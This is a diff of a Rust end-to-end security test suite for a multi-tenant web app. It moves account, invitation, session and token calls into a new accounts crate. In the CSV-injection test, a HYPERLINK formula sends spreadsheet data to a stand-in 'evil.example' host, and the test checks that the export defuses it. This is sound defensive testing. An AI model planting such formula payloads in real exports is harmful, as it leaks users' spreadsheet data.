@@ -7,10 +7,11 @@ use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
 use std::sync::{Arc, Mutex, OnceLock};
 use std::time::Duration;
 
+use silo_accounts::{Role, TokenScope};
 use silo_e2e::{ApiClient, PASSWORD, TestServer, csrf_of};
 use silo_tenancy::TenantRef;
-use silo_tenancy::accounts::{Role, TokenScope};
 use silo_tenancy::config::{Secret, TrustedProxies};
+use silo_web::startup::Application;
 
 /// Files under `dir` whose bytes contain `needle`.
 fn files_containing(dir: &Path, needle: &[u8]) -> Vec<PathBuf> {
@@ -35,10 +36,10 @@ fn control_db(server: &TestServer) -> rusqlite::Connection {
 
 /// An account that owns workspace `slug`, made directly (no sign-up flow).
 async fn owner(server: &TestServer, email: &str, slug: &str) {
-    server.tenancy.create_user(email, PASSWORD, None, "test").await.unwrap();
+    server.accounts.users().create(email, PASSWORD, None, "test").await.unwrap();
     let request = silo_tenancy::CreateTenant { slug: slug.into(), ..Default::default() };
     server.tenancy.create(request, "test").await.unwrap();
-    server.tenancy.add_member(&slug.parse().unwrap(), email, Role::Owner, "test").await.unwrap();
+    server.accounts.memberships().add(&slug.parse().unwrap(), email, Role::Owner, "test").await.unwrap();
 }
 
 // 1. Password-reset link poisoning.
@@ -80,27 +81,24 @@ async fn emailed_links_never_come_from_request_headers() {
     assert_eq!(invited.status, 303);
     let email = server.last_email("bob@example.com").await.unwrap();
     assert!(email.contains(&format!("{origin}invitations/inv_")) && !email.contains("evil"), "{email}");
-    server.stop().await;
+    server.stop().await.unwrap();
 }
 
 #[tokio::test]
 async fn a_public_bind_without_public_url_refuses_to_start() {
     let dir = tempfile::tempdir().unwrap();
-    let tenancy =
-        silo_tenancy::Tenancy::open(silo_tenancy::Settings::for_data_dir(dir.path())).await.unwrap();
     let public = std::net::TcpListener::bind("0.0.0.0:0").unwrap();
-    let refused = silo_web::server::start(tenancy.clone(), public).err().expect("refused").to_string();
+    let settings = silo_tenancy::Settings::for_data_dir(dir.path());
+    let refused = Application::build_on(settings, public).await.err().expect("refused").to_string();
     assert!(refused.contains("server.public_url"), "{refused}");
     let mut settings = silo_tenancy::Settings::for_data_dir(dir.path());
     settings.server.public_url = Some("https://silo.example.com".into());
-    tenancy.shutdown().await;
-    let tenancy = silo_tenancy::Tenancy::open(settings).await.unwrap();
     let public = std::net::TcpListener::bind("0.0.0.0:0").unwrap();
-    let server = silo_web::server::start(tenancy.clone(), public).expect("starts with a public URL");
-    let handle = server.handle();
-    tokio::spawn(server);
-    handle.stop(false).await;
-    tenancy.shutdown().await;
+    let application = Application::build_on(settings, public).await.expect("starts with a public URL");
+    let handle = application.handle();
+    let running = tokio::spawn(application.run_until_stopped());
+    handle.stop().await;
+    running.await.unwrap().unwrap();
 }
 
 // 2. The login throttle race and hashing exhaustion; per-client throttles on sign-up paths.
@@ -125,8 +123,8 @@ async fn a_burst_of_guesses_gets_only_the_allowed_number_checked() {
     let refused = statuses.iter().filter(|s| **s == 429).count();
     assert_eq!(checked, 5, "only the account's 5 attempts were checked: {statuses:?}");
     assert_eq!(refused, 195);
-    assert_eq!(server.tenancy.hashing().available(), std::thread::available_parallelism().unwrap().get());
-    server.stop().await;
+    assert_eq!(server.accounts.hashing().available(), std::thread::available_parallelism().unwrap().get());
+    server.stop().await.unwrap();
 }
 
 #[tokio::test]
@@ -134,9 +132,13 @@ async fn sign_ups_resets_and_invitation_sign_ups_are_throttled_per_client() {
     let server = TestServer::start_with(|s| s.server.signups_per_client_hour = 3).await.unwrap();
     owner(&server, "ada@example.com", "acme").await;
     let acme = server.tenancy.tenant(&"acme".parse().unwrap()).await.unwrap();
-    let ada = server.tenancy.user("ada@example.com").await.unwrap();
-    let (_, invitation) =
-        server.tenancy.invite(&acme, "bob@example.com", Role::Member, &ada, "http://x").await.unwrap();
+    let ada = server.accounts.users().by_email("ada@example.com").await.unwrap();
+    let (_, invitation) = server
+        .accounts
+        .invitations()
+        .create(&acme, "bob@example.com", Role::Member, &ada, "http://x")
+        .await
+        .unwrap();
     let visitor = server.visitor();
     for i in 0..3 {
         let email = format!("new{i}@example.com");
@@ -153,7 +155,7 @@ async fn sign_ups_resets_and_invitation_sign_ups_are_throttled_per_client() {
     let page = format!("/invitations/{invitation}");
     let join = visitor.submit(&page, &format!("{page}/signup"), &[("password", PASSWORD)]).await.unwrap();
     assert_eq!(join.status, 429, "the invitation sign-up counts against the same client");
-    assert!(server.tenancy.user("bob@example.com").await.is_err());
+    assert!(server.accounts.users().by_email("bob@example.com").await.is_err());
 
     // Password resets: after 3 emails to one address, silence (same page, no more mail).
     for _ in 0..5 {
@@ -161,9 +163,9 @@ async fn sign_ups_resets_and_invitation_sign_ups_are_throttled_per_client() {
             visitor.submit("/password/forgot", "/password/forgot", &[("email", "ada@example.com")]).await;
         assert_eq!(sent.unwrap().status, 200);
     }
-    let resets = server.tenancy.outbox(Some("ada@example.com"), 50).await.unwrap();
+    let resets = server.accounts.outbox().list(Some("ada@example.com"), 50).await.unwrap();
     assert_eq!(resets.iter().filter(|e| e.subject.contains("Reset")).count(), 3);
-    server.stop().await;
+    server.stop().await.unwrap();
 }
 
 // 3. Open redirect after sign-in.
@@ -190,7 +192,7 @@ async fn sign_in_returns_only_to_local_paths() {
     let fields = [("email", "ada@example.com"), ("password", PASSWORD), ("next", "/w/acme/members")];
     let local = visitor.submit("/login", "/login", &fields).await.unwrap();
     assert_eq!(local.location.as_deref(), Some("/w/acme/members"));
-    server.stop().await;
+    server.stop().await.unwrap();
 }
 
 // 4. Account enumeration through sign-up.
@@ -220,7 +222,10 @@ async fn sign_up_does_not_tell_whether_an_address_has_an_account() {
     // The owner of the known address is told; nothing was created for either.
     let notice = server.last_email("ada@example.com").await.unwrap();
     assert!(notice.contains("already has an account") && !notice.contains("/signup/confirm/"), "{notice}");
-    assert!(server.tenancy.user("carol@example.com").await.is_err(), "no account before confirmation");
+    assert!(
+        server.accounts.users().by_email("carol@example.com").await.is_err(),
+        "no account before confirmation"
+    );
     assert!(server.tenancy.tenant(&"taken-or-not".parse().unwrap()).await.is_err(), "no workspace either");
     let stranger = server.visitor();
     let early =
@@ -235,7 +240,7 @@ async fn sign_up_does_not_tell_whether_an_address_has_an_account() {
     assert_eq!((made.status, made.location.as_deref()), (303, Some("/w/taken-or-not/")), "{}", made.body);
     assert_eq!(carol.get("/w/taken-or-not/").await.unwrap().status, 200);
     assert_eq!(server.visitor().get(&link).await.unwrap().status, 404, "the link works once");
-    server.stop().await;
+    server.stop().await.unwrap();
 }
 
 // 5. The client address behind a proxy.
@@ -268,7 +273,7 @@ async fn the_client_is_the_address_the_trusted_proxy_saw() {
     }
     assert_eq!(attempt(3, "9.9.9.9, 198.51.100.7".into()).await, 429, "spoofed left entries do not help");
     assert_eq!(attempt(4, "6.6.6.6, 198.51.100.8".into()).await, 401, "another client has its own count");
-    server.stop().await;
+    server.stop().await.unwrap();
 }
 
 // 6. Crypto-shredding leaves no key bytes on disk.
@@ -295,7 +300,7 @@ async fn a_purge_leaves_no_copy_of_the_data_key_on_disk() {
     let (status, body) = api.call("DELETE", "/tenants/acme?purge=true", None).await.unwrap();
     assert_eq!(status, 200, "{body}");
     assert_eq!(files_containing(&data_dir, &wrapped), Vec::<PathBuf>::new(), "no file keeps the wrapped key");
-    server.stop().await;
+    server.stop().await.unwrap();
 }
 
 // 7. No usable link at rest in the outbox.
@@ -310,9 +315,13 @@ async fn a_copy_of_control_db_holds_no_link_that_works() {
         [("email", "carol@example.com"), ("password", PASSWORD), ("workspace", "C"), ("slug", "carol")];
     visitor.submit("/signup", "/signup", &signup).await.unwrap();
     let acme = server.tenancy.tenant(&"acme".parse().unwrap()).await.unwrap();
-    let ada = server.tenancy.user("ada@example.com").await.unwrap();
-    let (_, invitation) =
-        server.tenancy.invite(&acme, "bob@example.com", Role::Member, &ada, "http://x").await.unwrap();
+    let ada = server.accounts.users().by_email("ada@example.com").await.unwrap();
+    let (_, invitation) = server
+        .accounts
+        .invitations()
+        .create(&acme, "bob@example.com", Role::Member, &ada, "http://x")
+        .await
+        .unwrap();
     let reset = server.link_in_last_email("ada@example.com", "/password/reset/").await.unwrap();
     let confirm = server.link_in_last_email("carol@example.com", "/signup/confirm/").await.unwrap();
     let secrets = [
@@ -353,8 +362,8 @@ async fn a_copy_of_control_db_holds_no_link_that_works() {
     assert_eq!(copy_and_scan("before sending"), 3, "links are sealed while unsent");
 
     let mailer =
-        silo_tenancy::outbox::Mailer::from_settings(&silo_e2e::smtp::settings(port)).unwrap().unwrap();
-    let delivery = server.tenancy.deliver_outbox(&mailer, 50).await.unwrap();
+        silo_accounts::outbox::Mailer::from_settings(&silo_e2e::smtp::settings(port)).unwrap().unwrap();
+    let delivery = server.accounts.outbox().deliver(&mailer, 50).await.unwrap();
     assert_eq!(delivery.sent, 3);
     // Quoted-printable folds long lines with a trailing `=`.
     let messages = received.lock().unwrap().join("\n").replace("=\n", "");
@@ -364,7 +373,7 @@ async fn a_copy_of_control_db_holds_no_link_that_works() {
     assert_eq!(copy_and_scan("after sending"), 0, "sent: the sealed links are gone");
     let gone = server.last_email("ada@example.com").await.unwrap();
     assert!(gone.contains("link no longer available"), "{gone}");
-    server.stop().await;
+    server.stop().await.unwrap();
 }
 
 // 8. Invitations cannot outlive membership or change roles; the last owner stays.
@@ -373,46 +382,57 @@ async fn invitations_cannot_outlive_membership_or_change_roles() {
     let server = TestServer::start().await.unwrap();
     owner(&server, "ada@example.com", "acme").await;
     let t = &server.tenancy;
+    let a = &server.accounts;
     let acme = t.tenant(&"acme".parse().unwrap()).await.unwrap();
     let acme_ref = TenantRef::Id(acme.id);
-    let ada = t.user("ada@example.com").await.unwrap();
+    let ada = a.users().by_email("ada@example.com").await.unwrap();
     for who in ["bob", "carol", "dave", "erin"] {
-        t.create_user(&format!("{who}@example.com"), PASSWORD, None, "test").await.unwrap();
+        a.users().create(&format!("{who}@example.com"), PASSWORD, None, "test").await.unwrap();
     }
-    let bob = t.user("bob@example.com").await.unwrap();
+    let bob = a.users().by_email("bob@example.com").await.unwrap();
 
     // Invited as admin, then added as a member another way: the admin link is revoked.
-    let (_, as_admin) = t.invite(&acme, "bob@example.com", Role::Admin, &ada, "http://x").await.unwrap();
-    t.add_member(&acme_ref, "bob@example.com", Role::Member, "test").await.unwrap();
-    assert!(t.invitation(&as_admin).await.unwrap().is_none(), "joining revokes the address's invitations");
-    assert!(t.accept_invitation(&as_admin, &bob).await.is_err());
-    assert_eq!(t.role(acme.id, &bob.id).await.unwrap(), Some(Role::Member));
+    let (_, as_admin) =
+        a.invitations().create(&acme, "bob@example.com", Role::Admin, &ada, "http://x").await.unwrap();
+    a.memberships().add(&acme_ref, "bob@example.com", Role::Member, "test").await.unwrap();
+    assert!(
+        a.invitations().find(&as_admin).await.unwrap().is_none(),
+        "joining revokes the address's invitations"
+    );
+    assert!(a.invitations().accept(&as_admin, &bob).await.is_err());
+    assert_eq!(a.memberships().role(acme.id, &bob.id).await.unwrap(), Some(Role::Member));
 
     // Removed members cannot come back through an old link.
-    t.remove_member(&acme, &bob.id, "test").await.unwrap();
-    let (_, again) = t.invite(&acme, "bob@example.com", Role::Member, &ada, "http://x").await.unwrap();
-    t.add_member(&acme_ref, "bob@example.com", Role::Member, "test").await.unwrap();
-    t.remove_member(&acme, &bob.id, "test").await.unwrap();
-    assert!(t.accept_invitation(&again, &bob).await.is_err(), "removal revoked it");
-    assert_eq!(t.role(acme.id, &bob.id).await.unwrap(), None);
+    a.memberships().remove(&acme, &bob.id, "test").await.unwrap();
+    let (_, again) =
+        a.invitations().create(&acme, "bob@example.com", Role::Member, &ada, "http://x").await.unwrap();
+    a.memberships().add(&acme_ref, "bob@example.com", Role::Member, "test").await.unwrap();
+    a.memberships().remove(&acme, &bob.id, "test").await.unwrap();
+    assert!(a.invitations().accept(&again, &bob).await.is_err(), "removal revoked it");
+    assert_eq!(a.memberships().role(acme.id, &bob.id).await.unwrap(), None);
 
     // An inviter who loses the right to invite takes their pending invitations along.
-    t.add_member(&acme_ref, "dave@example.com", Role::Admin, "test").await.unwrap();
-    let dave = t.user("dave@example.com").await.unwrap();
-    let (_, from_dave) = t.invite(&acme, "carol@example.com", Role::Admin, &dave, "http://x").await.unwrap();
-    t.change_role(&acme, &dave.id, Role::Member, "test").await.unwrap();
-    assert!(t.invitation(&from_dave).await.unwrap().is_none(), "demoting dave revoked his invitation");
+    a.memberships().add(&acme_ref, "dave@example.com", Role::Admin, "test").await.unwrap();
+    let dave = a.users().by_email("dave@example.com").await.unwrap();
+    let (_, from_dave) =
+        a.invitations().create(&acme, "carol@example.com", Role::Admin, &dave, "http://x").await.unwrap();
+    a.memberships().change_role(&acme, &dave.id, Role::Member, "test").await.unwrap();
+    assert!(
+        a.invitations().find(&from_dave).await.unwrap().is_none(),
+        "demoting dave revoked his invitation"
+    );
 
     // Accepting as an existing member is refused (a join raced past the revocation).
-    let erin = t.user("erin@example.com").await.unwrap();
-    let (_, for_erin) = t.invite(&acme, "erin@example.com", Role::Admin, &ada, "http://x").await.unwrap();
+    let erin = a.users().by_email("erin@example.com").await.unwrap();
+    let (_, for_erin) =
+        a.invitations().create(&acme, "erin@example.com", Role::Admin, &ada, "http://x").await.unwrap();
     control_db(&server)
         .execute(
             "INSERT INTO memberships (user_id, tenant_id, role, created_at) VALUES (?, ?, 'member', 'now')",
             [erin.id.as_str(), acme.id.to_string().as_str()],
         )
         .unwrap();
-    let refused = t.accept_invitation(&for_erin, &erin).await.unwrap_err().to_string();
+    let refused = a.invitations().accept(&for_erin, &erin).await.unwrap_err().to_string();
     assert!(refused.contains("already a member"), "{refused}");
     let role: String = control_db(&server)
         .query_row("SELECT role FROM memberships WHERE user_id = ?", [erin.id.as_str()], |r| r.get(0))
@@ -420,13 +440,14 @@ async fn invitations_cannot_outlive_membership_or_change_roles() {
     assert_eq!(role, "member", "the invitation did not promote erin");
 
     // The last owner stays, on every path (CLI `member add` included), even under concurrency.
-    let demoted = t.add_member(&acme_ref, "ada@example.com", Role::Member, "test").await;
+    let demoted = a.memberships().add(&acme_ref, "ada@example.com", Role::Member, "test").await;
     assert!(demoted.unwrap_err().to_string().contains("at least one owner"));
-    assert!(t.remove_member(&acme, &ada.id, "test").await.is_err());
-    t.add_member(&acme_ref, "bob@example.com", Role::Owner, "test").await.unwrap();
+    assert!(a.memberships().remove(&acme, &ada.id, "test").await.is_err());
+    a.memberships().add(&acme_ref, "bob@example.com", Role::Owner, "test").await.unwrap();
+    let memberships = a.memberships();
     let (a, b) = tokio::join!(
-        t.change_role(&acme, &ada.id, Role::Member, "test"),
-        t.change_role(&acme, &bob.id, Role::Member, "test")
+        memberships.change_role(&acme, &ada.id, Role::Member, "test"),
+        memberships.change_role(&acme, &bob.id, Role::Member, "test")
     );
     assert_eq!(a.is_ok() as u8 + b.is_ok() as u8, 1, "exactly one of two concurrent demotions: {a:?} {b:?}");
     let owners: i64 = control_db(&server)
@@ -437,7 +458,7 @@ async fn invitations_cannot_outlive_membership_or_change_roles() {
         )
         .unwrap();
     assert_eq!(owners, 1);
-    server.stop().await;
+    server.stop().await.unwrap();
 }
 
 // 9. Revocation takes effect at once, even with lookups in flight.
@@ -445,14 +466,15 @@ async fn invitations_cannot_outlive_membership_or_change_roles() {
 async fn revocations_take_effect_at_once_under_concurrent_lookups() {
     let server = TestServer::start().await.unwrap();
     owner(&server, "ada@example.com", "acme").await;
-    let t = server.tenancy.clone();
-    let ada = t.user("ada@example.com").await.unwrap();
-    let token = t
-        .issue_token("ada@example.com", TokenScope::Personal("acme".parse().unwrap()), "test")
+    let a = server.accounts.clone();
+    let ada = a.users().by_email("ada@example.com").await.unwrap();
+    let token = a
+        .tokens()
+        .issue("ada@example.com", TokenScope::Personal("acme".parse().unwrap()), "test")
         .await
         .unwrap();
     let session =
-        t.create_session(&ada.id, "test", "127.0.0.1", Duration::from_secs(3600), None).await.unwrap();
+        a.sessions().create(&ada.id, "test", "127.0.0.1", Duration::from_secs(3600), None).await.unwrap();
 
     // Readers hammer the directory; after a revocation returns, no lookup that *starts* later
     // may still see the token or session.
@@ -461,16 +483,16 @@ async fn revocations_take_effect_at_once_under_concurrent_lookups() {
     let lookups = Arc::new(AtomicUsize::new(0));
     let readers: Vec<_> = (0..8)
         .map(|i| {
-            let (t, token, secret) = (t.clone(), token.clone(), session.secret.clone());
+            let (a, token, secret) = (a.clone(), token.clone(), session.secret.clone());
             let (revoked, stale, lookups) = (revoked.clone(), stale.clone(), lookups.clone());
             tokio::spawn(async move {
                 let deadline = tokio::time::Instant::now() + Duration::from_millis(1500);
                 while tokio::time::Instant::now() < deadline {
                     let after = revoked.load(Ordering::SeqCst);
                     let live = if i % 2 == 0 {
-                        t.authenticate_token(&token).await.unwrap().is_some()
+                        a.tokens().authenticate(&token).await.unwrap().is_some()
                     } else {
-                        t.session(&secret).await.unwrap().is_some()
+                        a.sessions().find(&secret).await.unwrap().is_some()
                     };
                     lookups.fetch_add(1, Ordering::Relaxed);
                     if after && live {
@@ -481,9 +503,9 @@ async fn revocations_take_effect_at_once_under_concurrent_lookups() {
         })
         .collect();
     tokio::time::sleep(Duration::from_millis(300)).await;
-    let info = t.tokens_of(&ada.id).await.unwrap().remove(0);
-    t.revoke_token(&ada.id, &info.id, "test").await.unwrap();
-    t.revoke_session(&session.secret).await.unwrap();
+    let info = a.tokens().of_user(&ada.id).await.unwrap().remove(0);
+    a.tokens().revoke(&ada.id, &info.id, "test").await.unwrap();
+    a.sessions().revoke(&session.secret).await.unwrap();
     revoked.store(true, Ordering::SeqCst);
     for reader in readers {
         reader.await.unwrap();
@@ -494,7 +516,7 @@ async fn revocations_take_effect_at_once_under_concurrent_lookups() {
         0,
         "a revoked token or session was accepted after its revocation"
     );
-    server.stop().await;
+    server.stop().await.unwrap();
 }
 
 // 10. Session idle timeout, token expiry, and a reset that offers to revoke tokens.
@@ -502,11 +524,14 @@ async fn revocations_take_effect_at_once_under_concurrent_lookups() {
 async fn idle_sessions_end_and_tokens_expire_or_go_with_a_reset() {
     let server = TestServer::start().await.unwrap();
     owner(&server, "ada@example.com", "acme").await;
-    let t = &server.tenancy;
-    let ada = t.user("ada@example.com").await.unwrap();
+    let a = &server.accounts;
+    let ada = a.users().by_email("ada@example.com").await.unwrap();
     // A session last used two days ago (idle timeout: one day by default).
-    let idle =
-        t.create_session(&ada.id, "test", "127.0.0.1", Duration::from_secs(14 * 86_400), None).await.unwrap();
+    let idle = a
+        .sessions()
+        .create(&ada.id, "test", "127.0.0.1", Duration::from_secs(14 * 86_400), None)
+        .await
+        .unwrap();
     control_db(&server)
         .execute(
             "UPDATE sessions SET last_seen_at = strftime('%Y-%m-%dT%H:%M:%fZ', 'now', '-2 days') WHERE id_sha256 = ?",
@@ -519,7 +544,7 @@ async fn idle_sessions_end_and_tokens_expire_or_go_with_a_reset() {
     };
     assert_eq!(with_cookie(idle.secret.clone()).await.unwrap().status(), 303, "idle too long: signed out");
     let fresh =
-        t.create_session(&ada.id, "test", "127.0.0.1", Duration::from_secs(3600), None).await.unwrap();
+        a.sessions().create(&ada.id, "test", "127.0.0.1", Duration::from_secs(3600), None).await.unwrap();
     assert_eq!(with_cookie(fresh.secret).await.unwrap().status(), 200);
 
     // Tokens may expire; the account page says when.
@@ -529,7 +554,7 @@ async fn idle_sessions_end_and_tokens_expire_or_go_with_a_reset() {
         .await
         .unwrap();
     let expiring = made.body.split("id=\"new-token\">").nth(1).unwrap().split('<').next().unwrap().to_owned();
-    let expires_at = t.tokens_of(&ada.id).await.unwrap().remove(0).expires_at.expect("an expiry");
+    let expires_at = a.tokens().of_user(&ada.id).await.unwrap().remove(0).expires_at.expect("an expiry");
     assert!(
         expires_at
             > silo_tenancy::control::utc_timestamp(
@@ -540,11 +565,12 @@ async fn idle_sessions_end_and_tokens_expire_or_go_with_a_reset() {
     assert!(account.body.contains(&format!("<td>{expires_at}</td>")), "the account page shows the expiry");
     let api = ApiClient::new(server.addr, Some(&expiring));
     assert_eq!(api.call("GET", "/w/acme/tasks", None).await.unwrap().0, 200);
-    let lasting = t
-        .issue_token("ada@example.com", TokenScope::Personal("acme".parse().unwrap()), "test")
+    let lasting = a
+        .tokens()
+        .issue("ada@example.com", TokenScope::Personal("acme".parse().unwrap()), "test")
         .await
         .unwrap();
-    let hash = silo_tenancy::accounts::token_digest(&lasting);
+    let hash = silo_accounts::secrets::token_digest(&lasting);
     control_db(&server)
         .execute(
             "UPDATE api_tokens SET expires_at = '2020-01-01T00:00:00.000Z' WHERE token_sha256 = ?",
@@ -575,7 +601,7 @@ async fn idle_sessions_end_and_tokens_expire_or_go_with_a_reset() {
     assert_eq!(api.call("GET", "/w/acme/tasks", None).await.unwrap().0, 200, "kept without the box");
     reset(true).await;
     assert_eq!(api.call("GET", "/w/acme/tasks", None).await.unwrap().0, 401, "revoked with the box");
-    server.stop().await;
+    server.stop().await.unwrap();
 }
 
 // 11. `silo tenant sql` reads only the tenant's own main database.
@@ -615,7 +641,7 @@ async fn operator_sql_reads_only_the_tenants_own_file() {
     );
     assert!(!t.query_readonly(&acme, "PRAGMA table_info(tasks)").await.unwrap().rows.is_empty());
     assert_eq!(t.query_readonly(&acme, "PRAGMA user_version").await.unwrap().rows.len(), 1);
-    server.stop().await;
+    server.stop().await.unwrap();
 }
 
 // 12. Tokens never reach the log.
@@ -658,7 +684,7 @@ async fn refused_forms_log_the_route_not_the_token() {
     let text = String::from_utf8_lossy(&log.0.lock().unwrap()).into_owned();
     assert!(text.contains("form refused") && text.contains("/password/reset/{token}"), "{text}");
     assert!(!text.contains(&secret), "the token is in the log");
-    server.stop().await;
+    server.stop().await.unwrap();
 }
 
 // 13. CSV formula injection in exports.
@@ -671,9 +697,9 @@ async fn exported_csv_cells_do_not_run_as_formulas() {
         .await
         .unwrap();
     let db = t.db(acme.id).await.unwrap();
-    let project = silo_tenancy::workspace::projects::create(&db, "P", "", None).unwrap();
+    let project = silo_workspace::projects::create(&db, "P", "", None).unwrap();
     let title = r#"=HYPERLINK("http://evil.example/?"&A1,"Click")"#;
-    let task = silo_tenancy::workspace::tasks::NewTask {
+    let task = silo_workspace::tasks::NewTask {
         project_id: project,
         title: title.into(),
         body: "-1+1".into(),
@@ -681,7 +707,7 @@ async fn exported_csv_cells_do_not_run_as_formulas() {
         assignee_id: None,
         due_date: None,
     };
-    silo_tenancy::workspace::tasks::create(&db, &task, None).unwrap();
+    silo_workspace::tasks::create(&db, &task, None).unwrap();
     drop(db);
     let out = tempfile::tempdir().unwrap();
     let zip_path = out.path().join("acme.zip");
@@ -695,7 +721,7 @@ async fn exported_csv_cells_do_not_run_as_formulas() {
     let mut json = String::new();
     std::io::Read::read_to_string(&mut zip.by_name("tables/tasks.json").unwrap(), &mut json).unwrap();
     assert!(json.contains("\"=HYPERLINK("), "JSON keeps the text as it is");
-    server.stop().await;
+    server.stop().await.unwrap();
 }
 
 // 14. No cookie downgrade over HTTPS.
@@ -732,7 +758,7 @@ async fn over_https_only_the_host_prefixed_cookie_counts() {
         303,
         "the plain name is ignored"
     );
-    server.stop().await;
+    server.stop().await.unwrap();
 }
 
 // 15. `/metrics` is not open to anyone who can reach the port.
@@ -753,7 +779,7 @@ async fn metrics_answer_only_whom_the_settings_allow() {
         404,
         "forwarded: not local"
     );
-    local.stop().await;
+    local.stop().await.unwrap();
 
     let token = TestServer::start_with(|s| s.server.metrics_token = Some(Secret::new("s3cret-metrics")))
         .await
@@ -761,7 +787,7 @@ async fn metrics_answer_only_whom_the_settings_allow() {
     assert_eq!(status(token.url("/metrics"), vec![]).await, 401);
     assert_eq!(status(token.url("/metrics"), vec![("Authorization", "Bearer wrong")]).await, 401);
     assert_eq!(status(token.url("/metrics"), vec![("Authorization", "Bearer s3cret-metrics")]).await, 200);
-    token.stop().await;
+    token.stop().await.unwrap();
 
     let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
     let bound =
@@ -776,7 +802,7 @@ async fn metrics_answer_only_whom_the_settings_allow() {
     let body =
         client.get(format!("http://127.0.0.1:{port}/metrics")).send().await.unwrap().text().await.unwrap();
     assert!(body.contains("silo_build_info"));
-    bound.stop().await;
+    bound.stop().await.unwrap();
 }
 
 // 16. Workspaces on their own host, over HTTP (the browser journey is in `browser.rs`).
@@ -925,5 +951,5 @@ async fn a_workspace_host_gets_a_session_handed_over_without_shared_cookies() {
         .unwrap();
     assert_eq!(out.headers()["location"], ada.url("silo.test", "/login").as_str());
     assert_eq!(ada.get(&ada.url("silo.test", "/account")).await.status(), 303, "the family is signed out");
-    server.stop().await;
+    server.stop().await.unwrap();
 }
